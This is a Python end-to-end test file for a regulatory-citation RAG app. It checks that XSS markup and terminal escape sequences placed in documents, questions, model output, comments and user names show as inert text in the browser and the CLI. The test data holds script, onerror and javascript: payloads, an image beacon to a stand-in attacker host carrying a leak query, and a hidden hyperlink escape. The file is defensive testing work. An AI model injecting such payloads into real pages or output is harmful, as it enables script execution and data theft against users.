"""XSS in a real browser (issue 14, acceptance 4): document text, the question, the model's output, a reviewer's
comment and a user's name each hold a <script>, an <img onerror> and a javascript: link (and the model's output an
image from another host). Nothing runs, nothing loads from another host, and each shows literally. Also the CLI:
`regcite ask` prints no live escape sequence or link."""
from __future__ import annotations

import io
from urllib.parse import urlparse

import pytest

from benchmarks.planted.obedient import serve as serve_model
from rag.config import load_settings
from rag.records.book import open_book
from rag.records.reviews import Action, CitationDecision, Outcome, decide
from rag.records.queue import history_of
from rag.records.users import Role, User, add_user
from tests.ui.test_e2e import browser, new_page, serve, stop, wait_idle  # noqa: F401 (a fixture)
from tests.ui.test_review_e2e import ask, log_in, watch_dialogs

pytestmark = pytest.mark.e2e

XSS = "<script>alert(1)</script> <img src=x onerror=alert(2)> [more](javascript:alert(3))"
DOCUMENT = f"""# Part 950 - Hostile Notices

§ 950.1 Notices.

(a) A lender shall send a notice of hostile markup within 12 days. {XSS}
"""
QUESTION = f"Within how many days must a lender send a notice of hostile markup? {XSS}"
MODEL_SAYS = (f"A lender shall send a notice of hostile markup within 12 days [1]. {XSS} "
              "![pixel](http://attacker.example/pixel.png?q=leak) [1].")
COMMENT = f"Checked against the rule. {XSS}"
# A name is at most 64 characters: the three payloads between two names.
ASKER = User("<script>alert(1)</script><img src=x onerror=alert(2)>", Role.ASKER)
REVIEWER = User("rex [more](javascript:alert(3))", Role.REVIEWER)
ADMIN = User("ada", Role.ADMIN)
PASSWORD = "correct horse battery"


@pytest.fixture
def hostile_app(tmp_path):
    from ingest.pipeline import ingest_paths

    model, url = serve_model(lambda messages: MODEL_SAYS)
    settings = load_settings(env={}, overrides={
        "data_dir": tmp_path / "data", "audit_key_file": str(tmp_path / "keys" / "audit.key"),
        "llm_backend": "openai", "llm_base_url": url, "llm_model": "scripted"})
    (tmp_path / "files").mkdir()
    doc = tmp_path / "files" / "part950.md"
    doc.write_text(DOCUMENT, encoding="utf-8")
    report = ingest_paths([doc], settings, progress=False)
    assert report.added == 1 and not report.skipped, report
    book = open_book(settings)
    from rag.records.grants import grant

    for user in (ADMIN, REVIEWER, ASKER):
        add_user(book, user.name, user.role, PASSWORD, by=ADMIN)
    for user in (REVIEWER, ASKER):
        grant(book, user.name, "default", by=ADMIN)  # the default collection, which the document went into
    yield settings, book
    book.db.dispose()
    model.shutdown()


def watch_requests(page, url: str, away: list[str]):
    """Every request the page makes that leaves the app's own host."""
    own = urlparse(url).hostname
    page.on("request", lambda r: away.append(r.url) if urlparse(r.url).hostname not in (own, None) and
            not r.url.startswith(("data:", "blob:", "about:")) else None)
    return page


def assert_inert(page, fired: list[str], away: list[str]) -> None:
    page.wait_for_timeout(800)  # time for an onerror handler or an image load, had either been created
    assert not fired, fired
    assert not away, away
    assert page.locator('img[src="x"], img[src*="attacker.example"]').count() == 0
    assert page.locator("script", has_text="alert(").count() == 0
    assert page.locator('a[href^="javascript:"]').count() == 0


def test_markup_in_document_question_model_output_comment_and_names_never_runs(browser, hostile_app, tmp_path):
    settings, book = hostile_app
    proc, url = serve(settings, tmp_path / "streamlit.log")
    fired: list[str] = []
    away: list[str] = []
    try:
        asker = watch_requests(watch_dialogs(new_page(browser), fired), url, away)
        log_in(asker, url, ASKER)
        assert ASKER.name in asker.get_by_test_id("stSidebar").inner_text()  # the name, as text
        ask(asker, QUESTION)
        main = asker.get_by_test_id("stMainBlockContainer").first
        text = main.inner_text()
        assert QUESTION in text  # the question, literally
        assert "<script>alert(1)</script>" in text and "<img src=x onerror=alert(2)>" in text  # model output
        assert "attacker.example/pixel.png" in text  # the image as text, never loaded
        assert_inert(asker, fired, away)
        # The cited clause, opened in its document: the document's own markup, literally.
        asker.get_by_text("Open source").first.click()
        wait_idle(asker)
        assert "[more](javascript:alert(3))" in main.inner_text()
        assert_inert(asker, fired, away)

        # A reviewer's decision with a comment holding the markup, then the asker's History shows it.
        item, = history_of(book, ASKER.name)
        from rag.records.answers import load_answer

        record = load_answer(book, item.answer_id)
        rulings = [CitationDecision(i, c.marker, c.clause_id, Action.ACCEPT)
                   for i, s in enumerate(record.sentences) for c in s.citations]
        decide(book, REVIEWER, item.answer_id, Outcome.APPROVED, rulings, comment=COMMENT)
        asker.get_by_role("link", name="History").click()
        history = asker.get_by_test_id("stMainBlockContainer").first
        row = history.locator(f"[class*='st-key-hist-{item.answer_id}']")
        row.get_by_role("button", name="Open").click()
        history.get_by_text("Review history").wait_for()
        wait_idle(asker)
        text = history.inner_text()
        assert COMMENT in text and REVIEWER.name in text
        assert_inert(asker, fired, away)

        # The reviewer's queue and pages: the asker's name and the question as text.
        reviewer = watch_requests(watch_dialogs(new_page(browser), fired), url, away)
        log_in(reviewer, url, REVIEWER)
        reviewer.get_by_role("link", name="Review").click()
        wait_idle(reviewer)
        assert_inert(reviewer, fired, away)
    finally:
        stop(proc)


def test_the_cli_prints_no_live_escape_sequence_or_link(hostile_app, monkeypatch):
    import argparse
    import contextlib

    from regcite import ask_cmd

    settings, book = hostile_app
    escapes = "\x1b]8;;http://attacker.example/\x07official text\x1b]8;;\x07 \x1b[2J\x1b[31mred\x1b[0m \x9b31m"
    model, url = serve_model(lambda messages: f"{MODEL_SAYS} {escapes} [1].")
    try:
        parser = argparse.ArgumentParser()
        parser.add_argument("--user")
        ask_cmd.add_arguments("ask", parser)
        out = io.StringIO()
        with contextlib.redirect_stdout(out):
            monkeypatch.setenv("REGCITE_PASSWORD", PASSWORD)
            ask_cmd.run("ask", parser.parse_args([QUESTION, "--base-url", url, "--user", ADMIN.name]), settings)
    finally:
        model.shutdown()
    printed = out.getvalue()
    assert not any(ch in printed for ch in "\x1b\x9b\x9d\x07"), repr(printed[:400])
    assert "http://attacker.example" not in printed and "attacker.example" in printed  # shown, inert
    assert "␛]8;;" in printed and "<script>alert(1)</script>" in printed  # what was there, visibly
